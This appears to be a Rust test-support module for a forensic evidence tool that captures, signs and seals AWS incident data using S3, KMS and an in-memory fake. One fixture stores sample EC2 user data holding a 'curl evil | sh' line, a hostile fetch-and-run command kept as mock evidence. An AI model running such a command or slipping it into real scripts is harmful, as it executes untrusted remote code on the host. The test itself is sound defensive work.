//! The evidence layer against the lab (real SDK clients, moto with our extensions) and
//! against the in-memory fake for what no emulator produces (crashes, throttling,
//! tampering COMPLIANCE forbids).

use std::sync::Arc;

use cleanroom::aws::kms::KmsSigner;
use cleanroom::aws::s3::S3Store;
use cleanroom::evidence::checkpoint::Signer;
use cleanroom::evidence::signing::{KeySource, TrustedKey};
use cleanroom::evidence::store::ObjectStore;
use cleanroom::evidence::{Action, Actor, Case, CustodyEvent, LockMode, NewItem, Retention, ToolInfo};
use cleanroom::fake::signer::LocalSigner;
use cleanroom::ids::{AccountId, CaseId};
use cleanroom::progress::Silent;
use cleanroom::verify::{Trust, VerifyOptions};

use crate::support::{Forensics, lab, region};

mod cli_tests;
mod fake_tests;
pub(crate) mod forgery;
mod lab_tests;
pub(crate) mod tamper;

pub fn actor(account: &AccountId) -> Actor {
    Actor {
        examiner: "Ada Examiner, IR team".into(),
        principal_arn: format!("arn:aws:sts::{account}:assumed-role/CleanroomForensics/test"),
        account: account.clone(),
        session_name: "cleanroom-test".into(),
    }
}

pub fn tool() -> ToolInfo {
    ToolInfo {
        name: "cleanroom".into(),
        version: "test".into(),
        binary_sha256: cleanroom::evidence::digest::sha256_tagged(b"test binary"),
    }
}

pub fn item(account: &AccountId, name: &str) -> NewItem {
    NewItem {
        id: format!("{account}/i-0123456789abcdef0/{name}"),
        account: account.clone(),
        subject: "i-0123456789abcdef0".into(),
        name: name.into(),
        source: "ec2:DescribeInstances".into(),
        method: "API read, canonical JSON".into(),
        derived_from: vec![],
    }
}

pub fn case_id(name: &str) -> CaseId {
    name.parse().unwrap()
}

/// The S3 store of a seeded forensics account, through lab clients.
pub fn s3_store(f: &Forensics) -> Arc<dyn ObjectStore> {
    Arc::new(S3Store::new(f.clients().s3, f.config.forensics.evidence_bucket.clone()))
}

/// The seeded forensics account's KMS signing key (the configuration's).
pub fn kms_signer(f: &Forensics) -> Arc<dyn Signer> {
    let arn = f.config.forensics.signing_key_arn.clone().expect("the lab seeds a signing key");
    Arc::new(KmsSigner::new(f.clients().kms, arn))
}

/// The configured signing key as verify online trusts it (GetPublicKey).
pub async fn kms_key(f: &Forensics) -> TrustedKey {
    let signer = kms_signer(f);
    let der = signer.public_key_der().await.unwrap();
    TrustedKey::from_bytes(&der, KeySource::Configured { key_id: signer.key_id() }).unwrap()
}

/// Verify options pinned to the configured signing key.
pub async fn kms_trust(f: &Forensics) -> VerifyOptions {
    VerifyOptions { trust: Trust::Key(kms_key(f).await) }
}

/// The signer of cases on the fake store.
pub fn local_signer() -> Arc<LocalSigner> {
    Arc::new(LocalSigner::from_seed(1))
}

/// Verify options pinned to [`local_signer`]'s key, as a user holding it would give it.
pub fn local_trust() -> VerifyOptions {
    let pem = local_signer().public_key_pem();
    VerifyOptions {
        trust: Trust::Key(
            TrustedKey::from_bytes(pem.as_bytes(), KeySource::File { path: "local.pem".into() }).unwrap(),
        ),
    }
}

/// Opens `case` in the seeded bucket with COMPLIANCE retention, as the lab's examiner,
/// every record signed with the configured KMS key (as `open_case` does).
pub async fn open(f: &Forensics, case: &str) -> Case {
    Case::open_signed(
        s3_store(f),
        &case_id(case),
        actor(&f.account),
        tool(),
        "sha256:config".into(),
        Retention::explicit(LockMode::Compliance, 1),
        kms_signer(f),
    )
    .await
    .expect("case opens")
}

/// A case with two JSON items, one file item, and a sealed manifest.
pub async fn populated(case: &Case, account: &AccountId, file_bytes: usize) {
    case.store_json(
        item(account, "describe-instances.json"),
        &serde_json::json!({"Reservations": [{"id": 1}]}),
    )
    .await
    .unwrap();
    case.store_json(
        item(account, "userdata.json"),
        &serde_json::json!({"UserData": "#!/bin/sh\ncurl evil | sh"}),
    )
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("console.bin");
    std::fs::write(&path, pattern(file_bytes)).unwrap();
    case.store_file(item(account, "console.bin"), &path, &Silent).await.unwrap();
    case.record(CustodyEvent {
        action: Action::NetworkIsolated,
        subject: "arn:aws:ec2:eu-west-1:111122223333:instance/i-0123456789abcdef0".into(),
        evidence: vec![],
        aws_request_ids: vec!["req-abc".into()],
        details: serde_json::json!({"isolation_group": "sg-0123456789abcdef0"}),
    })
    .await
    .unwrap();
    case.seal().await.unwrap();
}

pub fn pattern(n: usize) -> Vec<u8> {
    (0..n).map(|i| ((i * 31 + i / 7919) % 251) as u8).collect()
}

#[allow(dead_code)]
fn _uses() {
    let _ = (lab, region);
}
